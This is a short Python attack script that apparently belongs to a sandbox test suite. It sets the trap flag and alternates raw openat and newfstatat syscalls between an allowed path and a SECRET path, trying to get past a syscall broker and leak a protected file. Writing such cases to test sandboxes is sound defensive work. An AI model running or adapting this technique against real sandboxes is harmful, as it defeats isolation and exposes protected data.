# SPDX-License-Identifier: Apache-2.0
# attack: single-stepping through brokered calls with the trap flag
# class: arch
# wins: leak
from kit import *

call = function(TF, ctypes.c_void_p)
sigaction(signal.SIGTRAP, code(RET), 4)
path = ctypes.create_string_buffer(os.fsencode(SECRET))
good = ctypes.create_string_buffer(os.fsencode(GOOD))
st = stat_buf()
tried()
for i in range(300):
    for p in (good, path):
        took(call((ctypes.c_long * 7)(NR['openat'], AT_FDCWD, address(p), 0, 0)))
        call((ctypes.c_long * 7)(NR['newfstatat'], AT_FDCWD, address(p), address(st), 0))
